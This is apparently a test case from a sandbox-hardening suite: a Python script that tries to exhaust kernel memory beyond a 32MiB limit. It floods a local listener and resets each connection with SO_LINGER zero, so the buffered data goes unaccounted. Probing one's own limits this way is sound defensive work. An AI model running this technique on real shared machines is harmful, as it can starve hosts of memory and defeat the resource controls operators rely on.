# /// attack
# guarantee = "memory"
# summary = "Resets connections before they are accepted: they keep their data, and no table of the kernel shows them."
# reference = "SO_LINGER in socket(7), tcp_reset in net/ipv4/tcp_input.c"
# success = "four times the limit lies in connections that nobody can see"
# policy = { limits = { memory = "32MiB", open_files = 1024 } }
# refusal = { process = "denied EACCES", default = "limit memory" }
# ///

import socket
import struct
import time

from kit import attempt, succeeded

NOW = struct.pack("=ii", 1, 0)
sent = 0
listener = attempt(socket.socket)
listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
listener.bind(("127.0.0.1", 0))
listener.listen(4096)
deadline = time.monotonic() + 8
while sent < 128 << 20 and time.monotonic() < deadline:
    with socket.create_connection(listener.getsockname()) as one:
        one.setblocking(False)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, NOW)
        try:
            for _ in range(32):
                sent += one.send(b"x" * 32768)
        except BlockingIOError:
            pass
time.sleep(0.5)
if sent >= 128 << 20:
    succeeded(sent)
